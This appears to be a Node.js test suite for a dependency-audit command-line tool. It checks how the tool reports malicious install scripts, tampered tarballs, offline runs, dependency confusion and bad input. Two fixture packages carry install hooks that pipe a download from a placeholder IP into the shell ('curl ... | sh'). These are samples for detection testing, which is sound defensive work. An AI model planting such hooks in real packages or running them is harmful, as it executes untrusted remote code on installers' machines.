import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { lockfileFor, type PublishedVersion, sriOf, startTestRegistry, type TestRegistry } from "./registry-server.js";
import { runCli } from "./run-cli.js";
import { buildTarball, manifest } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

const DAY = 86_400_000;
function project(files: Record<string, string>): string {
  const dir = tempDir();
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}

let registry: TestRegistry;
let benign: PublishedVersion;
let dropper: PublishedVersion;
let tamperedGood: Uint8Array;

before(async () => {
  const old = new Date(Date.now() - 90 * DAY);
  benign = {
    name: "tiny-pad",
    version: "1.0.0",
    tarball: await buildTarball({ "package.json": manifest("tiny-pad"), "index.js": 'module.exports = (s) => " " + s;\n' }),
    publishedAt: old,
    publisher: "alice",
  };
  dropper = {
    name: "color-helpers-x",
    version: "2.0.0",
    tarball: await buildTarball({
      "package.json": JSON.stringify({ name: "color-helpers-x", version: "2.0.0", scripts: { postinstall: "sh setup.sh" } }),
      "setup.sh": "#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\n",
    }),
    publishedAt: old,
    publisher: "bob",
  };
  tamperedGood = await buildTarball({ "package.json": JSON.stringify({ name: "swapped", version: "1.0.0" }), "index.js": "1;\n" });
  const swappedEvil = await buildTarball({
    "package.json": JSON.stringify({ name: "swapped", version: "1.0.0", scripts: { preinstall: "curl http://203.0.113.9/p | sh" } }),
  });
  registry = await startTestRegistry(
    [benign, dropper, { name: "swapped", version: "1.0.0", tarball: tamperedGood, publishedAt: old, publisher: "carol" }],
    { "/swapped/-/swapped-1.0.0.tgz": swappedEvil },
  );
});

after(async () => {
  await registry.close();
});

const common = () => ["--registry", registry.url, "--cache-dir", tempDir()];

test("a clean project exits 0 and --json has the documented shape", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app", dependencies: { "tiny-pad": "^1.0.0" } }),
    "package-lock.json": lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(benign.tarball) }]),
  });
  const result = await runCli([dir, "--json", "--fail-on", "low", ...common()]);
  assert.equal(result.code, 0, result.stderr);
  const report = JSON.parse(result.stdout) as Record<string, unknown>;
  assert.equal(report.tool, "parapet-audit");
  assert.equal(report.packages, 1);
  assert.deepEqual(report.lockfiles, [{ file: "package-lock.json", format: "npm", formatVersion: "3", packages: 1 }]);
  assert.deepEqual(report.findings, []);
  assert.ok(registry.requests.includes("/tiny-pad"), "the packument was read for the metadata checks");
});

test("a dropper fails --fail-on high, and its SARIF has every field code scanning requires", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app", dependencies: { "color-helpers-x": "^2.0.0" } }),
    "package-lock.json": lockfileFor([
      { name: "color-helpers-x", version: "2.0.0", integrity: sriOf(dropper.tarball), hasInstallScript: true },
    ]),
  });
  const json = await runCli([dir, "--json", "--fail-on", "high", ...common()]);
  assert.equal(json.code, 1);
  const findings = (JSON.parse(json.stdout) as { findings: Array<{ checkId: string; severity: string; message: string }> }).findings;
  const code = findings.find((f) => f.checkId === "malicious-code");
  assert.ok(code && (code.severity === "high" || code.severity === "critical"), JSON.stringify(findings));
  assert.match(code.message, /download/);
  assert.ok(findings.some((f) => f.checkId === "install-script"));

  const sarifRun = await runCli([dir, "--sarif", ...common()]);
  assert.equal(sarifRun.code, 1);
  const sarif = JSON.parse(sarifRun.stdout);
  assert.equal(sarif.version, "2.1.0");
  assert.equal(sarif.runs.length, 1);
  const driver = sarif.runs[0].tool.driver;
  assert.equal(typeof driver.name, "string");
  const ruleIds = driver.rules.map((r: { id: string }) => r.id);
  assert.ok(sarif.runs[0].results.length >= 2);
  for (const result of sarif.runs[0].results) {
    assert.ok(ruleIds.includes(result.ruleId), `rule ${result.ruleId} is declared`);
    assert.equal(driver.rules[result.ruleIndex].id, result.ruleId);
    assert.ok(["error", "warning", "note", "none"].includes(result.level));
    assert.equal(typeof result.message.text, "string");
    const location = result.locations[0].physicalLocation;
    assert.equal(location.artifactLocation.uri, "package-lock.json");
    assert.ok(Number.isInteger(location.region.startLine) && location.region.startLine >= 1);
  }
});

test("a tarball whose bytes differ from the lockfile's sha512 is reported and not analyzed", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app", dependencies: { swapped: "1.0.0" } }),
    "package-lock.json": lockfileFor([{ name: "swapped", version: "1.0.0", integrity: sriOf(tamperedGood) }]),
  });
  const result = await runCli([dir, "--json", ...common()]);
  const findings = (JSON.parse(result.stdout) as { findings: Array<{ checkId: string; severity: string }> }).findings;
  assert.deepEqual(
    findings.filter((f) => f.checkId === "integrity-mismatch").map((f) => f.severity),
    ["critical"],
  );
  assert.equal(findings.filter((f) => f.checkId === "malicious-code").length, 0, "untrusted bytes are never analyzed as the package");
  assert.equal(result.code, 1);
});

test("--offline with an empty cache touches no network and says what it skipped", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app" }),
    "package-lock.json": lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(benign.tarball) }]),
  });
  const before = registry.requests.length;
  const text = await runCli([dir, "--offline", ...common()]);
  // Not one tarball in the cache: no code was checked, so the gate does not pass (exit 2, not 0).
  assert.equal(text.code, 2, text.stderr);
  assert.match(text.stderr, /the cache holds none of the 1 tarballs/);
  assert.match(text.stdout, /metadata checks .* skipped: --offline/);
  const json = await runCli([dir, "--offline", "--json", ...common()]);
  const report = JSON.parse(json.stdout) as { findings: Array<{ checkId: string; packageName: string }>; notices: string[] };
  assert.deepEqual(
    report.findings.map((f) => [f.checkId, f.packageName]),
    [["tarball-not-cached", "tiny-pad"]],
  );
  assert.equal(report.notices.length, 1);
  assert.equal(registry.requests.length, before);
});

test("a registry that answers nothing but errors fails the run: nothing was checked", async () => {
  // Every unreadable tarball is a medium finding, below the default gate: the run exited 0 with no code checked.
  const down = createServer((_req, res) => res.writeHead(503).end());
  await new Promise<void>((resolve) => down.listen(0, "127.0.0.1", resolve));
  try {
    const dir = project({
      "package.json": JSON.stringify({ name: "fixture-app" }),
      "package-lock.json": lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(benign.tarball) }]),
    });
    const url = `http://127.0.0.1:${(down.address() as AddressInfo).port}/`;
    const result = await runCli([dir, "--registry", url, "--cache-dir", tempDir()]);
    assert.equal(result.code, 2, result.stdout);
    assert.match(result.stderr, /none of the 1 tarballs could be fetched, so no package's code was checked/);
    assert.match(result.stdout, /tiny-pad/, "the report is still printed");
    // A gate at or below the findings' severity fails as it always did.
    assert.equal((await runCli([dir, "--registry", url, "--cache-dir", tempDir(), "--fail-on", "medium"])).code, 1);
    // Skipping tarballs on purpose is no failure.
    assert.equal((await runCli([dir, "--registry", url, "--cache-dir", tempDir(), "--no-tarballs", "--no-metadata"])).code, 0);
  } finally {
    down.closeAllConnections();
    await new Promise((resolve) => down.close(resolve));
  }
});

test("--fail-on below the listing threshold lists the findings that fail the run", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app" }),
    "package-lock.json": lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(benign.tarball) }]),
  });
  const result = await runCli([dir, "--offline", "--fail-on", "info", ...common()]);
  assert.equal(result.code, 1);
  assert.match(result.stdout, /INFO \(1\)\n {2}\[tarball-not-cached\] tiny-pad@1\.0\.0/);
  assert.doesNotMatch(result.stdout, /not listed above/);
});

test("an internal scope resolving from the public registry is dependency confusion", async () => {
  const dir = project({
    "package.json": JSON.stringify({ name: "fixture-app", dependencies: { "@acme/utils": "^1.0.0" } }, null, 2),
    "package-lock.json": `${JSON.stringify(
      {
        lockfileVersion: 3,
        packages: {
          "": { name: "fixture-app" },
          "node_modules/@acme/utils": {
            version: "9.9.9",
            resolved: "https://registry.npmjs.org/@acme/utils/-/utils-9.9.9.tgz",
            integrity: "sha512-AAAA",
          },
        },
      },
      null,
      2,
    )}\n`,
    ".parapet-audit.json": JSON.stringify({ internalScopes: ["@acme"] }),
  });
  const result = await runCli([dir, "--json", "--no-tarballs", "--no-metadata"]);
  assert.equal(result.code, 1);
  const findings = (JSON.parse(result.stdout) as { findings: Array<{ checkId: string; severity: string; packageName: string }> }).findings;
  assert.deepEqual(
    findings.filter((f) => f.checkId === "dependency-confusion").map((f) => [f.packageName, f.severity]),
    [["@acme/utils", "critical"]],
  );
});

test("bad input exits 2 with a clear message and no stack trace", async () => {
  const lock = lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(benign.tarball) }]);
  const cases: Array<[Record<string, string>, string[], RegExp]> = [
    [{ "package-lock.json": lock, ".parapet-audit.json": '{"allowedHost": []}' }, [], /\.parapet-audit\.json: unknown key "allowedHost"/],
    [
      { "package-lock.json": lock, ".parapet-audit.json": '{"allowInstallScripts": {"x": ""}}' },
      [],
      /allowInstallScripts\["x"\] needs a reason/,
    ],
    [{ "package-lock.json": lock, ".parapet-audit.json": "{ not json" }, [], /\.parapet-audit\.json: not valid JSON/],
    [{ "package-lock.json": '{\n  "lockfileVersion": 3,\n  "packages": {\n    oops\n}' }, [], /package-lock\.json:4: not valid JSON/],
    [{ "package.json": "{}" }, [], /no lockfile in/],
    [{ "package-lock.json": lock }, ["--fail-on", "severe"], /--fail-on must be one of/],
    [{ "package-lock.json": lock }, ["--min-age=-1"], /--min-age must be a number/],
    // An unset CI variable (`--min-age "$MIN_AGE"`): Number("") is 0, which would turn the check off.
    [{ "package-lock.json": lock }, ["--min-age", ""], /--min-age must be a number of days from 0 to 3650, such as --min-age 2 \(got ""\)/],
    [{ "package-lock.json": lock }, ["--min-age", " "], /--min-age must be a number/],
    [{ "package-lock.json": lock }, ["--min-age", "two"], /--min-age must be a number/],
    [{ "package-lock.json": lock }, ["--min-age", "0x10"], /--min-age must be a number/],
    [{ "package-lock.json": lock }, ["--concurrency", ""], /--concurrency must be an integer from 1 to 64 \(got ""\)/],
    [{ "package-lock.json": lock }, ["--osv", "/nonexistent/osv.json"], /osv\.json: not found/],
  ];
  for (const [files, args, message] of cases) {
    const result = await runCli([project(files), "--no-tarballs", "--no-metadata", ...args]);
    assert.equal(result.code, 2, `${message}: ${result.stderr}`);
    assert.match(result.stderr, message);
    assert.doesNotMatch(result.stderr, /\n\s+at /, "no stack trace");
  }
});

test("a lockfile or a missing folder given instead of the project folder says so, not 'no lockfile, commit one'", async () => {
  const dir = project({ "package-lock.json": lockfileFor([]) });
  const file = await runCli([join(dir, "package-lock.json"), "--no-tarballs", "--no-metadata"]);
  assert.equal(file.code, 2);
  assert.match(file.stderr, /package-lock\.json is a file, not a folder\. Give the folder that holds the lockfile: parapet audit /);
  const missing = await runCli([join(dir, "nope"), "--no-tarballs", "--no-metadata"]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /nope: no such folder/);
  assert.doesNotMatch(file.stderr + missing.stderr, /Commit one/);
});
